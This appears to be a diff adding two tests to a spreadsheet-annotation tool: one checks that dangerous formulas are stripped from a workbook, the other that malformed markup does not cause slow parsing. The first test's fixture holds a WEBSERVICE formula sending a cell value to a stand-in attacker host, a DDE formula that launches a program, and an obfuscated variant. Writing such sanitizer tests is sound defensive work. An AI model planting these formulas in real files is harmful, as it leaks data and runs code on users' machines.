@@ -208,6 +208,37 @@ describe("somebody else's file", () => {
     expect(kept.ok && kept.value).toEqual(unknown.data);
   });
 
+  it("brings no formula that starts a program or reaches out: values stay, honest formulas too", async () => {
+    const rows = `<row r="1"><c r="A1"><f>WEBSERVICE(&quot;http://evil.example/?&quot;&amp;B1)</f><v>7</v></c>
+      <c r="B1" t="str"><f><![CDATA[cmd|'/c calc'!A0]]></f><v>x</v></c>
+      <c r="C1"><f t="shared" ref="C1:C2" si="3">[1]Gia!B2</f><v>5</v></c><c r="D1"><f>SUM(A1:C1)</f><v>12</v></c><c r="E1"><f>WEB<!-- -->SERVI<?x?>CE("http://evil.example")</f><v>8</v></c></row>
+      <row r="2"><c r="C2"><f t="shared" si="3"/><v>6</v></c><c r="D2"><f t="shared" ref="D2:D3" si="4">A2+1</f><v>1</v></c></row>
+      <row r="3"><c r="D3"><f t="shared" si="4"/><v>2</v></c></row>`;
+    const styles = '<cellXfs count="1"><xf numFmtId="0"/></cellXfs>';
+    const extra = [{ name: "[Content_Types].xml", data: TYPES }];
+    const copy = annotated(makeWorkbook({ rows, styles, extra }), []);
+    const cells = await sheetCells(copy, "Trang & một");
+    expect(cells).toEqual({
+      A1: { value: 7 },
+      B1: { value: "x" },
+      C1: { value: 5 },
+      D1: { value: 12, formula: "=SUM(A1:C1)" },
+      E1: { value: 8 },
+      C2: { value: 6 },
+      D2: { value: 1, formula: "=A2+1" },
+      D3: { value: 2, formula: "=A3+1" },
+    });
+    expect(textOf(copy, pathOf(copy, "Trang & một"))).not.toMatch(/evil|calc'/);
+  });
+
+  it("takes no longer for marks that never end", () => {
+    const marks = "<f><f a='<f><!--<![CDATA[<?".repeat(20_000);
+    const rows = `<row r="1"><c r="A1"><v>1</v></c></row>${marks}`;
+    const started = performance.now();
+    annotateXlsx(makeWorkbook({ rows, extra: [{ name: "[Content_Types].xml", data: TYPES }] }), []);
+    expect(performance.now() - started).toBeLessThan(2000);
+  });
+
   it("drops the order of calculation when formulas of an old list go", async () => {
     const parts = workbookParts({ rows: "" }).map((part) =>
       part.name === "xl/workbook.xml"
